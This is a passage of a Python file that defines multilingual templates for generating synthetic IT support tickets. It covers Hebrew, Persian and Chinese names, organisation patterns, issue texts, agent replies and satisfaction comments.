        "reopen": ("К сожалению, не помогло. После перезагрузки ошибка вернулась.",),
    },
    replies={
        "open": ("Здравствуйте!\n\nСпасибо за обращение. Мы разбираемся с проблемой и "
                 "сообщим, как только появится больше информации.",),
        "pending": ("Здравствуйте!\n\nПришлите, пожалуйста, скриншот с текстом ошибки и "
                    "точное время, когда она появилась. Так мы быстрее найдём причину.",),
        "on_hold": ("Здравствуйте!\n\nМы передали вопрос поставщику и ждём его ответа. "
                    "Сообщим, как только появятся новости.",),
        "solved": ("Здравствуйте!\n\nПроблема устранена. Проверьте, пожалуйста, что всё "
                   "работает. Если нет — просто ответьте на это письмо.",),
    },
)

HEBREW = Language(
    code="he",
    share=0.03,
    skill="hebrew",
    male=("נועם", "יוסף", "דוד", "איתי", "אורי", "משה", "אריאל", "עומר"),
    female=("שירה", "נועה", "מיכל", "תמר", "רחל", "יעל", "אביגיל", "מאיה"),
    surnames=("כהן", "לוי", "מזרחי", "פרץ", "ביטון", "אברהם", "פרידמן", "שפירא", "אזולאי",
              "דהן"),
    romanized={
        "נועם": "noam", "יוסף": "yosef", "דוד": "david", "איתי": "itai", "אורי": "uri",
        "משה": "moshe", "אריאל": "ariel", "עומר": "omer", "שירה": "shira", "נועה": "noa",
        "מיכל": "michal", "תמר": "tamar", "רחל": "rachel", "יעל": "yael",
        "אביגיל": "avigail", "מאיה": "maya", "כהן": "cohen", "לוי": "levi",
        "מזרחי": "mizrahi", "פרץ": "peretz", "ביטון": "biton", "אברהם": "avraham",
        "פרידמן": "friedman", "שפירא": "shapira", "אזולאי": "azulay", "דהן": "dahan",
        "אופק": "ofek", "גלבוע": "gilboa", "כרמל": "carmel", "מגדל": "migdal", "נגב": "negev",
        "תבור": "tavor", "שקד": "shaked", "ארבל": "arbel",
        "טכנולוגיות": "tech", "תקשורת": "comm", "ביטוח": "insurance",
        "לוגיסטיקה": "logistics", "מערכות": "systems", "השקעות": "invest",
        "רימון": "rimon", "זית": "zayit", "אלון": "alon", "ברוש": "brosh", "דקל": "dekel",
        "הדר": "hadar", "ענבל": "inbal", "שחר": "shahar", "תל": "tel", "אביב": "aviv",
        "חיפה": "haifa", "ירושלים": "jerusalem", "באר": "beer", "שבע": "sheva",
        "נתניה": "netanya", "אשדוד": "ashdod",
    },
    family_first=False,
    mail_domains=("doar.example", "tivat-doar.example"),
    org_names=("אופק", "גלבוע", "כרמל", "מגדל", "נגב", "תבור", "שקד", "ארבל", "רימון",
               "זית", "אלון", "ברוש", "דקל", "הדר", "ענבל", "שחר"),
    org_sectors=("טכנולוגיות", "תקשורת", "ביטוח", "לוגיסטיקה", "מערכות", "השקעות"),
    org_pattern="{name} {sector} {form}",
    org_forms=("בע״מ",),
    org_branch="{org} – סניף {city}",
    cities=("תל אביב", "חיפה", "ירושלים", "באר שבע", "נתניה", "אשדוד"),
    reply_prefixes=("תגובה: ", "RE: "),
    issues={
        "billing": (
            (("חיוב כפול עבור {p}", "חויבנו פעמיים על {p}"),
             "החודש חויבנו פעמיים עבור {p}. נא להחזיר את התשלום הכפול. מספר ההזמנה: {n}."),
            (("טעות בחשבונית {n}", "מספר רישיונות שגוי בחשבונית {n}"),
             "בחשבונית {n} מופיעים 45 רישיונות {p}, אבל אנחנו משתמשים רק ב-32. נא לתקן את "
             "החשבונית – הנהלת החשבונות עיכבה את התשלום."),
        ),
        "network": (
            (("ה-{p} מתנתק כל הזמן", "{p} לא עובד מאז העדכון"),
             "מאז העדכון אתמול ה-{p} מתנתק כל כמה דקות. הפעלה מחדש והתקנה מחדש לא עזרו. "
             "תוכלו לבדוק?"),
            (("אין אינטרנט בקומה {f}", "תקלת רשת בקומה {f}"),
             "מהבוקר אין אינטרנט בקומה {f}. כשתים-עשרה עמדות מושפעות, ורשת האורחים עובדת."),
        ),
        "accounts": (
            (("החשבון שלי ב-{p} נחסם", "אין לי גישה ל-{p}"),
             "אחרי שלושה ניסיונות כניסה שגויים החשבון שלי ב-{p} נחסם. אפשר לשחרר אותו? יש "
             "לי דוח שחייב לצאת היום."),
            (("גישה ל-{p} לעובדת חדשה", "בקשת גישה ל-{p} ({n})"),
             "ביום ראשון מצטרפת אלינו עובדת חדשה. נא לפתוח לה גישה ל-{p}; אישור מנהל המחלקה "
             "מצורף ({n})."),
        ),
        "hardware": (
            (("ה-{p} לא נדלק", "ה-{p} לא עולה מהבוקר"),
             "מהבוקר ה-{p} לא נדלק. נורית הטעינה דולקת, אבל המסך נשאר שחור. אפשר לקבל מכשיר "
             "חלופי?"),
            (("המדפסת בקומה {f} מדפיסה דפים ריקים", "דפים ריקים מהמדפסת בקומה {f}"),
             "המדפסת בקומה {f} מדפיסה רק דפים ריקים. הטונר חדש, והבעיה התחילה אתמול. אפשר "
             "לשלוח מישהו לבדוק?"),
        ),
    },
    greetings=("שלום,", "היי,", "צוות התמיכה שלום,"),
    closings=("תודה!", "בברכה,", "תודה מראש,"),
    followups={
        "nudge": ("יש עדכון? הבעיה עדיין קיימת.",),
        "info": ("מצורף צילום המסך שביקשתם.",),
        "reopen": ("לצערי זה לא עזר. אחרי הפעלה מחדש השגיאה חזרה.",),
    },
    replies={
        "open": ("שלום,\n\nתודה על הפנייה. אנחנו בודקים את הבעיה ונעדכן ברגע שנדע יותר.",),
        "pending": ("שלום,\n\nתוכלו לשלוח צילום מסך של הודעת השגיאה ואת השעה המדויקת שבה "
                    "הופיעה? כך נוכל לאתר את הסיבה מהר יותר.",),
        "on_hold": ("שלום,\n\nהעברנו את הפנייה לספק ואנחנו ממתינים לתשובתו. נעדכן ברגע "
                    "שיהיו חדשות.",),
        "solved": ("שלום,\n\nהבעיה טופלה. נא לבדוק שהכול עובד כראוי. אם לא – פשוט השיבו "
                   "למייל הזה.",),
    },
)

PERSIAN = Language(
    code="fa",
    share=0.03,
    skill="persian",
    male=("علی", "محمد", "رضا", "حسین", "امیر", "مهدی", "آرش", "کاوه"),
    female=("فاطمه", "زهرا", "مریم", "نگار", "سارا", "شیرین", "پریسا", "لیلا"),
    surnames=("احمدی", "محمدی", "حسینی", "رضایی", "کریمی", "موسوی", "جعفری", "صادقی",
              "رحیمی", "تهرانی"),
    romanized={
        "علی": "ali", "محمد": "mohammad", "رضا": "reza", "حسین": "hossein", "امیر": "amir",
        "مهدی": "mehdi", "آرش": "arash", "کاوه": "kaveh", "فاطمه": "fatemeh",
        "زهرا": "zahra", "مریم": "maryam", "نگار": "negar", "سارا": "sara",
        "شیرین": "shirin", "پریسا": "parisa", "لیلا": "leila", "احمدی": "ahmadi",
        "محمدی": "mohammadi", "حسینی": "hosseini", "رضایی": "rezaei", "کریمی": "karimi",
        "موسوی": "mousavi", "جعفری": "jafari", "صادقی": "sadeghi", "رحیمی": "rahimi",
        "تهرانی": "tehrani",
        "پارس": "pars", "آریا": "arya", "البرز": "alborz", "سپهر": "sepehr",
        "دماوند": "damavand", "زاگرس": "zagros", "مهر": "mehr",
        "ارتباطات": "ertebatat", "بیمه": "bimeh", "فناوری": "fanavari", "صنعت": "sanat",
        "تجارت": "tejarat", "لجستیک": "logistic",
        "کوروش": "kourosh", "نگین": "negin", "آسمان": "aseman", "ستاره": "setareh",
        "آفتاب": "aftab", "بهار": "bahar", "تهران": "tehran", "اصفهان": "isfahan",
        "شیراز": "shiraz", "تبریز": "tabriz", "مشهد": "mashhad", "کرج": "karaj",
    },
    family_first=False,
    mail_domains=("nameh.example", "sandogh.example"),
    org_names=("پارس", "آریا", "البرز", "سپهر", "دماوند", "زاگرس", "مهر", "کوروش", "نگین",
               "آسمان", "ستاره", "آفتاب", "بهار"),
    org_sectors=("ارتباطات", "بیمه", "فناوری", "صنعت", "تجارت", "لجستیک"),
    org_pattern="{form} {name} {sector}",
    org_forms=("شرکت", "گروه"),
    org_branch="{org} – شعبه‌ی {city}",
    cities=("تهران", "اصفهان", "شیراز", "تبریز", "مشهد", "کرج"),
    reply_prefixes=("پاسخ: ", "RE: "),
    issues={
        "billing": (
            (("پرداخت تکراری برای {p}", "هزینه‌ی {p} دو بار کسر شد"),
             "این ماه دو بار برای {p} از حساب ما برداشت شده است. لطفاً مبلغ اضافه را "
             "برگردانید. شماره‌ی سفارش: {n}."),
            (("اشتباه در فاکتور شماره‌ی {n}", "تعداد مجوزها در فاکتور {n} اشتباه است"),
             "در فاکتور شماره‌ی {n} ۴۵ مجوز {p} آمده است، اما ما فقط از ۳۲ مجوز استفاده "
             "می‌کنیم. لطفاً فاکتور را اصلاح کنید؛ واحد مالی پرداخت را متوقف کرده است."),
        ),
        "network": (
            (("{p} مدام قطع می‌شود", "{p} بعد از به‌روزرسانی کار نمی‌کند"),
             "از به‌روزرسانی دیروز، {p} هر چند دقیقه یک بار قطع می‌شود. راه‌اندازی مجدد و نصب "
             "دوباره هم فایده‌ای نداشت. لطفاً بررسی کنید."),
            (("اینترنت طبقه‌ی {f} قطع است", "قطعی شبکه در طبقه‌ی {f}"),
             "از صبح اینترنت طبقه‌ی {f} قطع است. حدود دوازده میز کار درگیر است، اما شبکه‌ی "
             "مهمان کار می‌کند."),
        ),
        "accounts": (
            (("حساب کاربری من در {p} قفل شده است", "نمی‌توانم وارد {p} شوم"),
             "بعد از سه بار ورود ناموفق، حساب من در {p} قفل شد. لطفاً آن را باز کنید؛ باید "
             "امروز گزارشی را تمام کنم."),
            (("دسترسی به {p} برای همکار جدید", "درخواست دسترسی به {p} ({n})"),
             "از شنبه یک همکار جدید به تیم ما می‌پیوندد. لطفاً برای او دسترسی به {p} ایجاد "
             "کنید؛ تأیید مدیر بخش پیوست شده است ({n})."),
        ),
        "hardware": (
            (("{p} روشن نمی‌شود", "{p} از صبح بالا نمی‌آید"),
             "از صبح {p} روشن نمی‌شود. چراغ شارژ روشن است، اما صفحه سیاه می‌ماند. آیا دستگاه "
             "جایگزین دارید؟"),
            (("چاپگر طبقه‌ی {f} برگه‌ی سفید چاپ می‌کند", "چاپ برگه‌ی سفید در طبقه‌ی {f}"),
             "چاپگر طبقه‌ی {f} فقط برگه‌ی سفید چاپ می‌کند. کارتریج نو است و مشکل از دیروز "
             "شروع شده. لطفاً کسی را برای بررسی بفرستید."),
        ),
    },
    greetings=("سلام،", "با سلام و احترام،", "وقت بخیر،"),
    closings=("ممنون", "با تشکر،", "پیشاپیش سپاسگزارم،"),
    followups={
        "nudge": ("خبری نشد؟ مشکل هنوز پابرجاست.",),
        "info": ("تصویر صفحه‌ای را که خواسته بودید پیوست کردم.",),
        "reopen": ("متأسفانه فایده‌ای نداشت. بعد از راه‌اندازی مجدد، خطا دوباره ظاهر شد.",),
    },
    replies={
        "open": ("سلام،\n\nاز پیام شما سپاسگزاریم. در حال بررسی مشکل هستیم و به‌محض اینکه "
                 "اطلاعات بیشتری داشته باشیم خبر می‌دهیم.",),
        "pending": ("سلام،\n\nلطفاً تصویری از پیغام خطا و زمان دقیق رخ دادن آن را برای ما "
                    "بفرستید تا سریع‌تر علت را پیدا کنیم.",),
        "on_hold": ("سلام،\n\nموضوع را به تأمین‌کننده ارجاع داده‌ایم و منتظر پاسخ او هستیم. "
                    "به‌محض دریافت خبر، به شما اطلاع می‌دهیم.",),
        "solved": ("سلام،\n\nمشکل برطرف شد. لطفاً بررسی کنید که همه چیز درست کار می‌کند. "
                   "اگر نه، کافی است به همین ایمیل پاسخ دهید.",),
    },
)

CHINESE = Language(
    code="zh",
    share=0.03,
    skill="chinese",
    male=("伟", "磊", "强", "洋", "杰", "浩然", "子轩", "建国"),
    female=("芳", "娜", "秀英", "敏", "静", "艳", "婷", "子涵"),
    surnames=("王", "李", "张", "刘", "陈", "杨", "黄", "赵", "吴", "周"),
    romanized={
        "伟": "wei", "磊": "lei", "强": "qiang", "洋": "yang", "杰": "jie",
        "浩然": "haoran", "子轩": "zixuan", "建国": "jianguo", "芳": "fang", "娜": "na",
        "秀英": "xiuying", "敏": "min", "静": "jing", "艳": "yan", "婷": "ting",
        "子涵": "zihan", "王": "wang", "李": "li", "张": "zhang", "刘": "liu", "陈": "chen",
        "杨": "yang", "黄": "huang", "赵": "zhao", "吴": "wu", "周": "zhou",
        "北京": "beijing", "上海": "shanghai", "深圳": "shenzhen", "杭州": "hangzhou",
        "成都": "chengdu", "广州": "guangzhou",
        "华信科技": "huaxin-tech", "中天物流": "zhongtian-logistics",
        "长城贸易": "changcheng-trade", "东方网络": "dongfang-net",
        "腾飞电子": "tengfei-electronics", "恒通软件": "hengtong-soft",
        "南京": "nanjing", "武汉": "wuhan", "西安": "xian", "苏州": "suzhou", "天津": "tianjin",
        "重庆": "chongqing", "瑞丰食品": "ruifeng-food", "金桥咨询": "jinqiao-consulting",
        "天宇能源": "tianyu-energy", "博远医疗": "boyuan-medical",
    },
    family_first=True,
    mail_domains=("youxiang.example", "xinxiang.example"),
    org_names=("北京", "上海", "深圳", "杭州", "成都", "广州", "南京", "武汉", "西安", "苏州"),
    org_sectors=("华信科技", "中天物流", "长城贸易", "东方网络", "腾飞电子", "恒通软件",
                 "瑞丰食品", "金桥咨询", "天宇能源", "博远医疗"),
    org_pattern="{name}{sector}{form}",
    org_forms=("有限公司",),
    org_branch="{org}{city}分公司",
    cities=("上海", "北京", "广州", "深圳", "天津", "重庆"),
    reply_prefixes=("回复：", "RE: "),
    issues={
        "billing": (
            (("{p}本月被重复扣费", "{p}重复扣款"),
             "本月{p}的费用被扣了两次，请退还重复扣除的款项。订单号：{n}。"),
            (("发票{n}金额有误", "发票{n}授权数量不对"),
             "发票{n}上列了45个{p}授权，但我们只使用了32个。请更正发票，财务部门已暂停付款。"),
        ),
        "network": (
            (("{p}经常断开", "更新后{p}无法使用"),
             "自从昨天更新后，{p}每隔几分钟就断开一次。重启和重新安装都没有用，请帮忙看一下。"),
            (("{f}楼办公室无法上网", "{f}楼网络中断"),
             "从早上开始，{f}楼办公室就无法上网了。大约有十二个工位受影响，访客网络正常。"),
        ),
        "accounts": (
            (("{p}账号被锁定", "无法登录{p}"),
             "我输错三次密码后，{p}账号被锁定了。请帮我解锁，我今天必须完成一份报告。"),
            (("请为新同事开通{p}权限", "{p}权限申请（{n}）"),
             "下周一有新同事入职，请为她开通{p}的访问权限。部门经理的审批已附上（{n}）。"),
        ),
        "hardware": (
            (("{p}无法开机", "{p}从早上开始开不了机"),
             "今天早上{p}开不了机。充电指示灯亮着，但屏幕一直是黑的。能否提供备用设备？"),
            (("{f}楼的打印机只打印空白页", "{f}楼打印机出空白页"),
             "{f}楼的打印机只打印空白页。墨粉是新换的，问题从昨天开始。请派人来检查一下。"),
        ),
    },
    greetings=("您好，", "你好，", "支持团队您好，"),
    closings=("谢谢！", "此致敬礼", "先谢谢了"),
    followups={
        "nudge": ("请问有进展吗？问题依然存在。",),
        "info": ("附上您要的截图。",),
        "reopen": ("可惜没有用，重启后错误又出现了。",),
    },
    replies={
        "open": ("您好，\n\n感谢您的来信。我们正在排查问题，有进展会第一时间通知您。",),
        "pending": ("您好，\n\n请发送错误信息的截图以及出现问题的具体时间，"
                    "以便我们更快找到原因。",),
        "on_hold": ("您好，\n\n我们已将问题转交供应商处理，正在等待对方回复。"
                    "一有消息会立即通知您。",),
        "solved": ("您好，\n\n问题已经解决。请确认一切是否正常。如仍有问题，直接回复此邮件即可。",),
    },
)

LANGUAGES = (ENGLISH, GERMAN, POLISH, RUSSIAN, HEBREW, PERSIAN, CHINESE)

# --- Satisfaction ratings -------------------------------------------------------------------

CSAT_COMMENTS: dict[str, dict[str, tuple[str, ...]]] = {
    "en": {
        "good": ("Quick and friendly, thank you!", "Solved on the first try. Great service.",
                 "Thanks for the clear instructions.", "Very helpful, much appreciated.",
                 "Fast answer, everything works again."),
        "fair": ("It works now, but it took a while.", "OK in the end.",
                 "Had to explain the problem twice."),
        "bad": ("Took far too long to get an answer.", "The problem is not really solved.",
                "Nobody told me what was going on for days."),
    },
    "de": {
        "good": ("Schnell und freundlich, danke!", "Gleich beim ersten Mal gelöst. Top!",
                 "Vielen Dank für die klare Anleitung."),
        "fair": ("Funktioniert jetzt, hat aber gedauert.", "Am Ende in Ordnung."),
        "bad": ("Viel zu lange auf eine Antwort gewartet.", "Das Problem ist nicht gelöst."),
    },
    "pl": {
        "good": ("Szybko i uprzejmie, dziękuję!", "Rozwiązane od razu. Świetna obsługa."),
        "fair": ("Działa, ale trwało to długo.", "W końcu w porządku."),
        "bad": ("Za długo czekałem na odpowiedź.", "Problem nadal nie jest rozwiązany."),
    },
    "ru": {
        "good": ("Быстро и вежливо, спасибо!", "Всё решили с первого раза."),
        "fair": ("Работает, но ждать пришлось долго.", "В итоге нормально."),
        "bad": ("Слишком долго ждал ответа.", "Проблема так и не решена."),
    },
    "he": {
        "good": ("מהיר ואדיב, תודה רבה!", "נפתר כבר בפעם הראשונה."),
        "fair": ("עובד עכשיו, אבל זה לקח זמן.", "בסוף בסדר."),
        "bad": ("חיכיתי יותר מדי זמן לתשובה.", "הבעיה לא באמת נפתרה."),
    },
    "fa": {
        "good": ("سریع و مودبانه، ممنونم!", "همان بار اول حل شد."),
        "fair": ("الان کار می‌کند، ولی طول کشید.", "در نهایت خوب بود."),
        "bad": ("خیلی طول کشید تا جواب بگیرم.", "مشکل واقعاً حل نشد."),
    },
    "zh": {
        "good": ("回复很快，态度很好，谢谢！", "第一次就解决了，非常满意。"),
        "fair": ("现在可以用了，但是花了不少时间。", "最后还行。"),
        "bad": ("等回复等了太久。", "问题并没有真正解决。"),
    },
}
"""What requesters write with a rating, by language code: ``good`` (4-5), ``fair`` (3),
``bad`` (1-2)."""
